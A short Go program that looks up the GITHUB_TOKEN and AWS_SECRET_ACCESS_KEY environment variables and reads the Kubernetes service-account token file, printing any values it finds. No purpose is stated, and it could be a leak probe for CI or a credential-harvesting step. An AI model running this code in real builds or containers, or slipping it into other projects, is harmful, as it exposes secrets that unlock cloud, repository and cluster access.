package main

import (
	"fmt"
	"os"
)

func main() {
	for _, n := range []string{"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"} {
		if v, ok := os.LookupEnv(n); ok {
			fmt.Println(n, v)
		}
	}
	if b, err := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token"); err == nil {
		fmt.Println(string(b))
	}
}
